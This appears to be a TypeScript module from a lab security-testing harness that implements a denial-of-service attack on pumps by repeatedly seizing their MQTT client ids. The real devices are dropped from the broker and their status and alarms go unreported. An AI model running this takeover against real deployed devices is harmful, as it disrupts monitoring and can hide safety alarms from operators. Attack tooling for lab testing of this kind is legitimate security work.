import { z } from 'zod';
import type { Endpoint } from '../engine/lab-under-test.ts';
import type { Action, AttackContext, ClientEvidence } from './action.ts';
import { connectMqtt, type MqttSession } from './clients/mqtt-session.ts';
import { connackCode, connectionChannel, evidence, report, statusOf, tally } from './evidence.ts';
import { mqttIdentity } from './mqtt-identities.ts';
import { holdFor } from './lab-hold.ts';
import { addressOf, endpointFor, knownSerials } from './targets.ts';

const params = z.strictObject({
  identity: z.enum(['none', 'claim-serial']),
  /** Lab milliseconds to keep the pumps off the broker. */
  holdMs: z.number().int().positive().max(1_800_000),
});

/** Real milliseconds between attempts for one victim: after a kick back, after a refusal. */
const pace = { retakeMs: 100, refusedMs: 1_000 };

/**
 * Denial of service by client-id takeover: the broker hands a client id's session to whoever
 * connects with it and drops the one holding it (MQTT 3.1.1 3.1.4-2). For `holdMs` of lab time the
 * attacker connects with each victim's serial as client id, and reconnects whenever the pump's own
 * reconnect kicks it back, so the pump's status, events and alarms stop reaching the server.
 * `none` sends only the client id; `claim-serial` also puts the serial in the username.
 */
export const mqttTakeover: Action<typeof params> = {
  name: 'mqtt-takeover',
  summary: "Keeps connecting with each pump's client id so the real pumps are thrown off the broker.",
  params,
  async run(context, { identity, holdMs }) {
    const reached = endpointFor(context, 'mqtt');
    if (!reached.ok) return report('blocked', 'The broker is out of reach.', [reached.evidence]);
    const victims = knownSerials(context);
    const items: ClientEvidence[] = [];
    const state = { running: true, accepted: 0 };
    const loops = victims.map((serial) => hold(context, reached.endpoint, serial, identity, state, items));
    await holdFor(context.lab, holdMs);
    state.running = false;
    await Promise.all(loops);
    const summary = `${state.accepted} takeover connection(s) accepted against ${victims.length} pump(s).`;
    return report(statusOf(state.accepted > 0), summary, tally(items));
  },
};

/** Keeps one victim's client id taken until the hold ends. */
async function hold(
  context: AttackContext,
  endpoint: Endpoint,
  serial: string,
  kind: 'none' | 'claim-serial',
  state: { running: boolean; accepted: number },
  items: ClientEvidence[],
): Promise<void> {
  const who = mqttIdentity(context, 'claim-serial', serial);
  if (!who.ok) return;
  const identity = kind === 'none' ? { clientId: serial } : who.identity;
  const where = addressOf(endpoint);
  while (state.running) {
    const connected = await connectMqtt(endpoint, context.attacker.address, identity);
    if (!state.running) {
      if (connected.ok) await connected.session.close();
      return;
    }
    if (!connected.ok) {
      items.push(evidence(connectionChannel(connected.code), connected.code, connected.line, where));
      await pause(pace.refusedMs);
      continue;
    }
    state.accepted += 1;
    items.push(evidence('mqtt', connackCode(0), "took over a pump's client id", serial));
    await heldUntilKicked(connected.session, state);
    await pause(pace.retakeMs);
  }
}

/** Waits until the pump takes its id back (the broker drops this session) or the hold ends. */
async function heldUntilKicked(session: MqttSession, state: { running: boolean }): Promise<void> {
  while (state.running && session.connected) {
    await Promise.race([session.whenClosed(), pause(200)]);
  }
  await session.close();
}

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
